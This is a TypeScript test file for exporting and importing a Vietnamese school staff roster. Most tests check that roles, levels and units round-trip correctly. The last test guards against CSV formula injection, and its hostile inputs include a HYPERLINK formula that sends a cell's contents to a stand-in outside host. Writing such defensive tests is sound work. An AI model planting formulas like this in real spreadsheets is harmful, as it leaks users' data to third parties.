// The export writes what the import reads: role names, levels and units come back the same.
import { describe, expect, it } from 'vitest';
import { ROLES } from '../../src/core/vocabulary.js';
import { cellsInOrder, ROSTER_ROLE_NAMES, rosterRowsOf, type ExportPerson, type ExportSchool } from '../../src/roster/export-roster.js';
import { roleOfName, ROSTER_COLUMNS, type RosterColumn } from '../../src/roster/roster-columns.js';
import { validateRoster } from '../../src/roster/validate-roster.js';
import { writeRosterFile } from '../../src/roster/write-roster-file.js';
import { readRosterFile } from '../../src/roster/read-roster-file.js';


const school: ExportSchool = {
  code: 'THCS-TP', name: 'Trường THCS Trần Phú', level: 'THCS',
  supervisor: { kind: 'SUPERVISING', name: 'UBND phường Lê Chân', typeLabel: 'Phòng Văn hóa – Xã hội phường' },
};
const thpt: ExportSchool = { code: 'THPT-TPH', name: 'Trường THPT Thái Phiên', level: 'THPT', supervisor: { kind: 'DIVISION', name: 'Phòng GD trung học (đổi tên)', typeLabel: null } };

describe('roster export', () => {
  it('every role name reads back as its role', () => {
    for (const role of ROLES) expect(roleOfName(ROSTER_ROLE_NAMES[role]), role).toBe(role);
  });

  it('a head teaching two sub-groups gets one row per sub-group, heads on the right row, board roles on the first', () => {
    const person: ExportPerson = {
      code: 'THCS-TP-003', fullName: 'Lê Thị Mai Anh', phone: '0932345874', email: null, subjects: ['Toán', 'Tin học'],
      roles: [
        { role: 'GROUP_HEAD', school, group: 'Tổ Toán – Tin' },
        { role: 'SUBGROUP_HEAD', school, group: 'Tổ Toán – Tin', subgroup: 'Tin học' },
        { role: 'TEACHER', school, group: 'Tổ Toán – Tin', subgroup: 'Toán' },
        { role: 'TEACHER', school, group: 'Tổ Toán – Tin', subgroup: 'Tin học' },
        { role: 'VICE_PRINCIPAL', school },
      ],
    };
    const rows = rosterRowsOf([person]);
    expect(rows.map((r) => [r.subgroup, r.roles])).toEqual([
      ['Toán', 'Giáo viên; Tổ trưởng; Phó hiệu trưởng'],
      ['Tin học', 'Giáo viên; Nhóm trưởng'],
    ]);
    expect(rows[0]).toMatchObject({ schoolCode: 'THCS-TP', level: 'THCS', unit: 'UBND phường Lê Chân', unitType: 'Phòng Văn hóa – Xã hội phường', subjects: 'Toán; Tin học' });
    // Read back: the same roles.
    const valid = validateRoster(rows.map((cells, i) => ({ rowNumber: i + 2, cells })));
    expect(valid.ok).toBe(true);
    if (!valid.ok) return;
    expect(valid.plan.people[0]!.roles.map((r) => `${r.role}:${r.subgroup ?? ''}`).sort()).toEqual(
      ['GROUP_HEAD:', 'SUBGROUP_HEAD:Tin học', 'TEACHER:Tin học', 'TEACHER:Toán', 'VICE_PRINCIPAL:'].sort(),
    );
  });

  it('the Division and the Department are written by the names the import knows; office staff come last', () => {
    const rows = rosterRowsOf([
      { code: 'SGD-01', fullName: 'A', phone: null, email: null, subjects: [], roles: [{ role: 'DEPARTMENT_DIRECTOR', unit: { kind: 'DEPARTMENT', name: 'Sở GDĐT Hải Phòng', typeLabel: null } }] },
      { code: 'GDTRH-02', fullName: 'B', phone: null, email: null, subjects: ['Toán'], roles: [{ role: 'DIVISION_SPECIALIST', unit: { kind: 'DIVISION', name: 'x', typeLabel: null }, subjects: ['Toán', 'Tin học'] }] },
      { code: 'THPT-TPH-001', fullName: 'C', phone: '0772349299', email: 'c@truong.vn', subjects: [], roles: [{ role: 'PRINCIPAL', school: thpt }] },
    ]);
    expect(rows.map((r) => [r.staffCode, r.unit, r.roles, r.subjects])).toEqual([
      ['THPT-TPH-001', 'Phòng Giáo dục trung học', 'Hiệu trưởng', ''],
      ['GDTRH-02', 'Phòng Giáo dục trung học', 'Chuyên viên', 'Toán; Tin học'],
      ['SGD-01', 'Sở Giáo dục và Đào tạo', 'Ban Giám đốc', ''],
    ]);
    expect(cellsInOrder(rows[0]!)).toHaveLength(Object.keys(ROSTER_COLUMNS).length);
    const valid = validateRoster(rows.map((cells, i) => ({ rowNumber: i + 2, cells: cells as Record<RosterColumn, string> })));
    expect(valid.ok).toBe(true);
  });
});

describe('roster CSV and formulas', () => {
  it('a cell that Excel would run as a formula is written as text, and reads back unchanged', async () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào")', '+84912345678', '-1+2', '@SUM(A1:A9)'];
    const row = cellsInOrder({ ...rosterRowsOf([{ code: 'THCS-TP-099', fullName: 'Nguyễn Văn A', phone: '0912345678', email: null, subjects: ['Toán'], roles: [{ role: 'TEACHER', school, group: 'Tổ Toán – Tin', subgroup: 'Toán' }] }])[0]!, fullName: hostile[0]!, email: hostile[3]!, subjects: hostile[2]!, phone: hostile[1]! });
    const csv = await writeRosterFile([row], 'csv');
    const lines = csv.toString('utf8').split('\r\n');
    // No field of the data line starts with a formula character once the CSV quoting is removed.
    const fields = lines[1]!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((f) => f.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
    for (const f of fields) expect(f).not.toMatch(/^[=+\-@]/);
    expect(fields).toContain(`'${hostile[0]}`);
    const read = await readRosterFile(csv, 'csv');
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.rows[0]!.cells).toMatchObject({ fullName: hostile[0], phone: hostile[1], subjects: hostile[2], email: hostile[3] });
  });
});
